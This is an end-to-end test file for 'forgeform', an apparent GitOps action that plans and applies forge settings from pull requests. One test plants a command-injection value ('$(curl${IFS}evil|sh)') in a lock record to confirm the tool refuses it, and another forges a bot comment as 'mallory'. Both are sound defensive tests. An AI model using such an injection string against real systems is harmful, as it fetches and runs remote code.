/**
 * The journey the action exists for, run as a runner runs the committed example workflows
 * (examples/gitops/.github/workflows and .gitea/workflows): a pull request is planned (one sticky
 * comment), merged, applied, and the plan of main is then empty; two pull requests from one main
 * are applied in turn; a stale merge changes nothing and says so on the pull request and in an
 * issue; a failed plan replaces the plan in the comment.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { buildActionDir, ROOT } from './runner.js';
import { exampleConfig, journey, results, MANAGED_SEED, BOT_PASSWORD, HOOK_SECRET, MALLORY_TOKEN, PLAN_TOKEN, ADMIN_TOKEN, REPO, type Journey } from './journey-world.js';

/** A journey runs several workflows, each job a few processes: slow on a busy machine, never hung. */
const JOURNEY_TIMEOUT = 300_000;

let actionDir: string;
let j: Journey | undefined;
beforeAll(() => {
  actionDir = buildActionDir();
}, 120_000);
afterEach(async () => {
  await j?.close();
  j = undefined;
});

const labels = async (j: Journey, path: string) => (await j.api<{ name: string; color: string }[]>(j.managed, 'GET', path)).body.map((l) => `${l.name}:${l.color}`).sort();
const ownComment = async (j: Journey, pr: number) => (await j.comments(pr)).filter((c) => c.user.login === 'forge-bot');

const WIDGETS_DOCS = (repos: string) => repos.replace('  acme/widgets:\n    labels:\n', '  acme/widgets:\n    labels:\n      docs: { color: 0075ca, description: "Documentation" }\n');

describe.each(['github', 'gitea'] as const)('the %s example workflows, as a runner runs them', (kind) => {
  const planFile = 'forgeform-plan.yml';
  const applyFile = 'forgeform-apply.yml';

  it('plans a pull request in one comment, applies it on merge, reports the result on the pull request; the plan of main is then empty', async () => {
    j = await journey(kind, actionDir);
    const config = exampleConfig();
    const { pull, runs } = await j.open('Adopt forgeform', config);
    expect(results(runs)).toEqual([`${planFile}/plan: success`]);
    let mine = await ownComment(j, pull.number);
    expect(mine).toHaveLength(1);
    expect(mine[0]!.body).toContain('### forgeform plan · `config`');
    expect(mine[0]!.body).toContain('Plan: 6 to create, 0 to update, 0 to delete, 0 to rename.');
    expect(mine[0]!.body).toContain(`Planned commit \`${pull.head.slice(0, 12)}\``);
    expect(mine[0]!.body).toMatch(/<!-- forgeform:reviewed [A-Za-z0-9_-]+ -->/);
    // Planning read the server only, with the read-only token: nothing was written.
    expect(j.managed.requests().filter((r) => r.method !== 'GET')).toEqual([]);

    // A second push: the same comment, edited.
    const again = await j.push(pull, { 'config/users.yaml': config['config/users.yaml']!.replace('full_name: CI bot', 'full_name: CI robot') });
    expect(results(again)).toEqual([`${planFile}/plan: success`]);
    const edited = await ownComment(j, pull.number);
    expect(edited.map((c) => c.id)).toEqual(mine.map((c) => c.id));
    expect(edited[0]!.body).toContain(`Planned commit \`${pull.head.slice(0, 12)}\``);
    expect(edited[0]!.body).toContain('"CI robot"');

    const merged = await j.merge(pull);
    expect(results(merged.runs)).toEqual([`${applyFile}/apply: success`]);
    const apply = Object.values(merged.runs)[0]![0]!;
    if (kind === 'github') expect(apply.environment).toBe('forge-admin');
    else expect(apply.runsOn).toBe('forgeform-serial');
    expect(await labels(j, 'orgs/acme/labels')).toEqual(['kind/bug:d73a4a', 'kind/feature:a2eeef']);
    expect(await labels(j, 'repos/acme/widgets/labels')).toEqual(['good first issue:7057ff']);
    const users = (await j.api<{ login: string; full_name: string }[]>(j.managed, 'GET', 'admin/users')).body;
    expect(users.find((u) => u.login === 'ci-bot')).toMatchObject({ full_name: 'CI robot' });
    // The real secrets were sent by the apply, never the plan job's placeholders.
    const hook = j.managed.requests().find((r) => r.method === 'POST' && r.path === '/api/v1/admin/hooks');
    expect(JSON.stringify(hook?.body)).not.toContain('not-needed-to-plan');

    // The outcome is on the pull request, above the plan that was reviewed.
    mine = await ownComment(j, pull.number);
    expect(mine).toHaveLength(1);
    expect(mine[0]!.body).toContain('### forgeform apply · `config`');
    expect(mine[0]!.body).toContain(`**Applied after the merge** (commit \`${merged.sha.slice(0, 12)}\`): Apply complete! 6 created, 0 updated, 0 deleted, 0 renamed.`);
    expect(mine[0]!.body).toContain('Plan: 6 to create');

    // The nightly plan of main: no drift, no issue.
    const nightly = await j.nightly();
    expect(results(nightly)).toEqual(['forgeform-drift.yml/drift: success']);
    expect(Object.values(nightly)[0]![0]!.forgeform!.outputs).toMatchObject({ 'has-changes': 'false', summary: 'No changes.' });
    expect(await j.issues()).toEqual([]);
    // No secret anywhere on the forge.
    const everything = JSON.stringify([await j.comments(pull.number), await j.issues()]);
    for (const s of [ADMIN_TOKEN, PLAN_TOKEN, BOT_PASSWORD, HOOK_SECRET]) expect(everything).not.toContain(s);
  }, JOURNEY_TIMEOUT);

  it('applies two pull requests from one main in turn, each exactly as reviewed, and main and the server converge', async () => {
    j = await journey(kind, actionDir);
    const config = exampleConfig();
    await j.merge((await j.open('Adopt forgeform', config)).pull);
    const base = j.main();
    // Both planned from the same main, each touching other objects.
    const docs = await j.open('Docs label', { 'config/repos.yaml': WIDGETS_DOCS(config['config/repos.yaml']!) }, base);
    const bob = await j.open('Bob', { 'config/users.yaml': `${config['config/users.yaml']!}  bob:\n    email: bob@example.com\n    password: \${CI_BOT_PASSWORD}\n` }, base);
    expect((await ownComment(j, docs.pull.number))[0]!.body).toContain('Plan: 1 to create');
    expect((await ownComment(j, bob.pull.number))[0]!.body).toContain('Plan: 1 to create');

    expect(results((await j.merge(docs.pull)).runs)).toEqual([`${applyFile}/apply: success`]);
    const second = await j.merge(bob.pull);
    expect(results(second.runs)).toEqual([`${applyFile}/apply: success`]);
    expect((await ownComment(j, bob.pull.number))[0]!.body).toContain('**Applied after the merge**');
    expect(await labels(j, 'repos/acme/widgets/labels')).toEqual(['docs:0075ca', 'good first issue:7057ff']);
    expect((await j.api<{ login: string }[]>(j.managed, 'GET', 'admin/users')).body.map((u) => u.login)).toContain('bob');

    const nightly = await j.nightly();
    expect(Object.values(nightly)[0]![0]!.forgeform!.outputs).toMatchObject({ 'has-changes': 'false' });
  }, JOURNEY_TIMEOUT);

  it('a stale merge changes nothing, says why on the pull request and opens one issue; the next reviewed merge applies and closes it', async () => {
    j = await journey(kind, actionDir);
    const config = exampleConfig();
    await j.merge((await j.open('Adopt forgeform', config)).pull);
    const docs = await j.open('Docs label', { 'config/repos.yaml': WIDGETS_DOCS(config['config/repos.yaml']!) });
    // After the review, someone creates the label by hand, in another colour.
    await j.api(j.managed, 'POST', 'repos/acme/widgets/labels', { name: 'docs', color: '111111' });
    j.managed.clearRequests();

    const merged = await j.merge(docs.pull);
    expect(results(merged.runs)).toEqual([`${applyFile}/apply: failure`]);
    expect(j.managed.requests().filter((r) => r.method !== 'GET')).toEqual([]);
    expect(await labels(j, 'repos/acme/widgets/labels')).toEqual(['docs:111111', 'good first issue:7057ff']);
    const [c] = await ownComment(j, docs.pull.number);
    expect(c!.body).toContain('**Merged but not applied**');
    expect(c!.body).toMatch(/label "docs" in repo:acme\/widgets is not what was reviewed/);
    let issues = (await j.issues()).filter((i) => i.title === 'forgeform: merged but not applied');
    expect(issues).toHaveLength(1);
    expect(issues[0]).toMatchObject({ state: 'open', user: { login: 'forge-bot' } });
    expect(issues[0]!.body).toContain(`pull request #${docs.pull.number} was merged but not applied`);
    expect(issues[0]!.body).toContain('~ label "docs"'); // the plan as it is now: an update
    expect(c!.body).toContain(`See issue #${issues[0]!.number}.`);

    // The way back: any pull request; its plan shows what is pending; reviewed and merged, it applies.
    const fix = await j.open('Catch up', { 'README.md': 'Catch up.\n' });
    expect((await ownComment(j, fix.pull.number))[0]!.body).toContain('Plan: 0 to create, 1 to update');
    expect(results((await j.merge(fix.pull)).runs)).toEqual([`${applyFile}/apply: success`]);
    expect(await labels(j, 'repos/acme/widgets/labels')).toEqual(['docs:0075ca', 'good first issue:7057ff']);
    issues = (await j.issues()).filter((i) => i.title === 'forgeform: merged but not applied');
    expect(issues).toEqual([expect.objectContaining({ state: 'closed' })]);
  }, JOURNEY_TIMEOUT);

  it('an apply refused by the lock says why on the pull request (a foreign forgeform-lock: its reason, not an empty block)', async () => {
    j = await journey(kind, actionDir);
    const { pull } = await j.open('Adopt forgeform', exampleConfig());
    // A record forgeform never writes: a lock id of shell. The apply must refuse it, and say so.
    const description = 'Held by forgeform apply: user=ci host=build-7 pid=1 since=2026-01-01T00:00:00Z renewed=2026-01-01T00:00:00Z id=$(curl${IFS}evil|sh)';
    expect((await j.api(j.managed, 'POST', 'orgs', { username: 'forgeform-lock', visibility: 'private', description })).status).toBe(201);
    const merged = await j.merge(pull);
    expect(results(merged.runs)).toEqual([`${applyFile}/apply: failure`]);
    const body = (await ownComment(j, pull.number))[0]!.body;
    expect(body).toContain('**The apply after the merge failed**');
    expect(body).toContain('an organisation named "forgeform-lock" exists that is not forgeform\'s apply lock (its description\'s id is not one forgeform writes). Nothing was changed.');
    expect(body).not.toMatch(/```text\n```/);
    expect(body).not.toContain('curl${IFS}');
    expect(j.managed.requests().filter((r) => r.method !== 'GET' && r.path !== '/api/v1/orgs')).toEqual([]);
  }, JOURNEY_TIMEOUT);

  it('a failed plan replaces the plan in the comment, and a merge of it applies nothing', async () => {
    j = await journey(kind, actionDir);
    const config = exampleConfig();
    await j.merge((await j.open('Adopt forgeform', config)).pull);
    const { pull } = await j.open('Docs label', { 'config/repos.yaml': WIDGETS_DOCS(config['config/repos.yaml']!) });
    const [before] = await ownComment(j, pull.number);
    expect(before!.body).toContain('Plan: 1 to create');

    const broken = await j.push(pull, { 'config/repos.yaml': WIDGETS_DOCS(config['config/repos.yaml']!).replace('color: 0075ca', 'colour: 0075ca') });
    expect(results(broken)).toEqual([`${planFile}/plan: failure`]);
    const plan = Object.values(broken)[0]![0]!.forgeform!;
    expect(plan.stdout).toContain('::error title=forgeform configuration,file=config/repos.yaml,line=');
    const [after] = await ownComment(j, pull.number);
    expect(after!.id).toBe(before!.id);
    expect(after!.body).toContain(`Planning commit \`${pull.head.slice(0, 12)}\` failed`);
    expect(after!.body).toMatch(/config\/repos\.yaml:\d+:\d+: .*colour/);
    expect(after!.body).not.toContain('Plan: 1 to create');

    j.managed.clearRequests();
    const merged = await j.merge(pull);
    expect(results(merged.runs)).toEqual([`${applyFile}/apply: failure`]);
    expect(j.managed.requests().filter((r) => r.method !== 'GET')).toEqual([]);
    expect((await ownComment(j, pull.number))[0]!.body).toContain('**Merged but not applied**');
  }, JOURNEY_TIMEOUT);

  it('leaves a marker planted by another user alone, and never trusts the plan it claims', async () => {
    j = await journey(kind, actionDir);
    const config = exampleConfig();
    const first = await j.open('Adopt forgeform', config);
    await j.merge(first.pull);
    const [genuine] = await ownComment(j, first.pull.number);
    // Before the bot plans the next pull request, mallory writes a comment that looks like the bot's:
    // its marker, and a reviewed plan of another commit.
    let planted = 0;
    let forged = '';
    const { pull } = await j.open('Docs label', { 'config/repos.yaml': WIDGETS_DOCS(config['config/repos.yaml']!) }, undefined, async (p) => {
      forged = genuine!.body.replace(/<!-- forgeform:status -->[\s\S]*<!-- \/forgeform:status -->\n\n/, '');
      const r = await j!.api<{ id: number }>(j!.forge, 'POST', `repos/${REPO}/issues/${p.number}/comments`, { body: forged }, MALLORY_TOKEN);
      expect(r.status).toBe(201);
      planted = r.body.id;
    });
    let all = await j.comments(pull.number);
    expect(all.find((c) => c.id === planted)!.body).toBe(forged); // never edited
    expect(all.filter((c) => c.user.login === 'forge-bot')).toHaveLength(1);
    // The apply reads the bot's record, not mallory's (which is of another commit: it would refuse).
    const merged = await j.merge(pull);
    expect(results(merged.runs)).toEqual([`${applyFile}/apply: success`]);
    expect(await labels(j, 'repos/acme/widgets/labels')).toEqual(['docs:0075ca', 'good first issue:7057ff']);
    all = await j.comments(pull.number);
    expect(all.find((c) => c.id === planted)!.body).toBe(forged);
  }, JOURNEY_TIMEOUT);
});

/** The sharded workflows of docs/ci.md (a matrix of 2), as a team copies them into the repository. */
function shardedWorkflows(kind: 'github' | 'gitea'): Record<string, string> {
  const doc = readFileSync(join(ROOT, 'docs/ci.md'), 'utf8');
  const files: Record<string, string> = {};
  for (const m of doc.matchAll(/```yaml\n# (\.(?:github|gitea)\/workflows\/[^\n]+?) \(sharded\)\n([\s\S]*?)```/g)) if (m[1]!.startsWith(`.${kind}/`)) files[m[1]!] = m[2]!;
  expect(Object.keys(files).sort()).toEqual([`.${kind}/workflows/forgeform-apply.yml`, `.${kind}/workflows/forgeform-plan.yml`]);
  return files;
}

describe.each(['github', 'gitea'] as const)('the sharded %s workflows of docs/ci.md (a matrix of 2)', (kind) => {
  it('plans each part in its own comment, applies both parts on merge, and the plan of main is then empty; a stale part changes nothing', async () => {
    j = await journey(kind, actionDir, { workflows: shardedWorkflows(kind) });
    const config = exampleConfig();
    const { pull, runs } = await j.open('Adopt forgeform', config);
    expect(results(runs)).toEqual(['forgeform-plan.yml/plan[1]: success', 'forgeform-plan.yml/plan[2]: success']);
    let mine = await ownComment(j, pull.number);
    expect(mine).toHaveLength(2);
    const part = (n: number) => mine.find((c) => c.body.includes(`### forgeform plan · \`config\` · shard ${n}/2`))!;
    expect(part(1).body).toContain('Plan: 2 to create'); // users and admin hooks: part 1
    expect(part(2).body).toContain('Plan: 4 to create'); // acme and its repositories: part 2

    const merged = await j.merge(pull);
    expect(results(merged.runs)).toEqual(['forgeform-apply.yml/apply[1]: success', 'forgeform-apply.yml/apply[2]: success']);
    mine = await ownComment(j, pull.number);
    for (const n of [1, 2]) expect(part(n).body).toMatch(new RegExp(`### forgeform apply · \`config\` · shard ${n}/2\\n\\n\\*\\*Applied after the merge\\*\\*`));
    const nightly = await j.nightly();
    expect(Object.values(nightly)[0]![0]!.forgeform!.outputs).toMatchObject({ 'has-changes': 'false' });

    // A stale part: part 2's reviewed label was made by hand since; part 1 has nothing to do.
    const docs = await j.open('Docs label', { 'config/repos.yaml': WIDGETS_DOCS(config['config/repos.yaml']!) });
    await j.api(j.managed, 'POST', 'repos/acme/widgets/labels', { name: 'docs', color: '111111' });
    const stale = await j.merge(docs.pull);
    expect(results(stale.runs)).toEqual(['forgeform-apply.yml/apply[1]: success', 'forgeform-apply.yml/apply[2]: failure']);
    expect(await labels(j, 'repos/acme/widgets/labels')).toEqual(['docs:111111', 'good first issue:7057ff']);
    const issues = (await j.issues()).filter((i) => i.title.startsWith('forgeform: merged but not applied'));
    expect(issues.map((i) => i.title)).toEqual(['forgeform: merged but not applied (shard 2/2)']);
  }, JOURNEY_TIMEOUT);
});

describe('a value the config reads from the environment, in a field that is not secret (issue 28)', () => {
  it('is masked in the comment, the refused apply, its issue, the step summary and the log', async () => {
    j = await journey('github', actionDir);
    const config = exampleConfig();
    await j.merge((await j.open('Adopt forgeform', config)).pull);
    // A pull request moves the hook's secret into a label's description: the plan job reads its placeholder value
    // (the example plan workflow sets CI_HOOK_SECRET to "not-needed-to-plan"), the apply job the real one.
    const repos = config['config/repos.yaml']!.replace('description: "Good for newcomers"', 'description: "${CI_HOOK_SECRET}"');
    const hooks = config['config/hooks.yaml']!.replace('    secret: ${CI_HOOK_SECRET}\n', '');
    const { pull, runs } = await j.open('Describe with a secret', { 'config/repos.yaml': repos, 'config/hooks.yaml': hooks });
    const planned = Object.values(runs)[0]![0]!.forgeform!;
    const [reviewed] = await ownComment(j, pull.number);
    const logOf = (r: { stdout: string; stderr: string }) => r.stdout.split('\n').filter((l) => !l.startsWith('::add-mask::')).join('\n') + r.stderr;
    for (const text of [reviewed!.body, logOf(planned), planned.summary]) expect(text).not.toContain('not-needed-to-plan');

    j.managed.clearRequests();
    const merged = await j.merge(pull);
    expect(results(merged.runs)).toEqual(['forgeform-apply.yml/apply: failure']);
    expect(j.managed.requests().filter((r) => r.method !== 'GET')).toEqual([]);
    const apply = Object.values(merged.runs)[0]![0]!.forgeform!;
    const [c] = await ownComment(j, pull.number);
    expect(c!.body).toContain('**Merged but not applied**');
    const issues = (await j.issues()).filter((i) => i.title === 'forgeform: merged but not applied');
    expect(issues).toHaveLength(1);
    expect(issues[0]!.body).toContain('~ label "good first issue"');
    for (const [what, text] of [['comment', c!.body], ['issue', issues[0]!.body], ['summary', apply.summary], ['log', logOf(apply)]] as const) expect(text, what).not.toContain(HOOK_SECRET);
    // The value is registered with the runner's masking before anything is printed.
    expect(apply.stdout).toContain(`::add-mask::${HOOK_SECRET}`);
  }, JOURNEY_TIMEOUT);
});

describe('one deletion budget for all the shards', () => {
  it('refuses every part when the parts together delete more than policy.max_deletes, though each part alone stays within it', async () => {
    j = await journey('github', actionDir, {
      workflows: shardedWorkflows('github'),
      managedSeed: { ...MANAGED_SEED, orgs: [...MANAGED_SEED.orgs!, { name: 'platform', owners: ['alice'] }], repos: [...MANAGED_SEED.repos!, { name: 'platform/site' }] },
    });
    const config = exampleConfig();
    const site = '  platform/site:\n    labels:\n      a: { color: aa0001 }\n      b: { color: bb0002 }\n';
    const repos = WIDGETS_DOCS(config['config/repos.yaml']!) + site;
    const adopt = await j.open('Adopt forgeform', { ...config, 'config/repos.yaml': repos });
    expect(results(adopt.runs), JSON.stringify((await ownComment(j, adopt.pull.number)).map((c) => c.body))).toEqual(['forgeform-plan.yml/plan[1]: success', 'forgeform-plan.yml/plan[2]: success']);
    const adopted = await j.merge(adopt.pull);
    expect(results(adopted.runs), JSON.stringify(Object.values(adopted.runs)[0]!.map((r) => r.forgeform?.stdout))).toEqual(['forgeform-apply.yml/apply[1]: success', 'forgeform-apply.yml/apply[2]: success']);
    expect(await labels(j, 'repos/platform/site/labels')).toEqual(['a:aa0001', 'b:bb0002']); // platform: part 1, acme: part 2

    // One deletion in each part, with a budget of one for the whole configuration.
    const fewer = repos.replace('      docs: { color: 0075ca, description: "Documentation" }\n', '').replace('      b: { color: bb0002 }\n', '');
    const { pull } = await j.open('Fewer labels', {
      'config/repos.yaml': fewer,
      'config/00-server.yaml': config['config/00-server.yaml']!.replace('max_deletes: 10', 'max_deletes: 1'),
    });
    const mine = await ownComment(j, pull.number);
    expect(mine.map((c) => /Plan: 0 to create, 0 to update, 1 to delete/.test(c.body))).toEqual([true, true]);
    const merged = await j.merge(pull);
    expect(results(merged.runs)).toEqual(['forgeform-apply.yml/apply[1]: failure', 'forgeform-apply.yml/apply[2]: failure']);
    expect(await labels(j, 'repos/platform/site/labels')).toEqual(['a:aa0001', 'b:bb0002']);
    expect(await labels(j, 'repos/acme/widgets/labels')).toEqual(['docs:0075ca', 'good first issue:7057ff']);
    for (const c of await ownComment(j, pull.number)) expect(c.body).toContain(`the 2 shards of pull request #${pull.number} together delete 2 objects, more than policy.max_deletes (1) allows for the whole configuration`);
  }, JOURNEY_TIMEOUT);
});
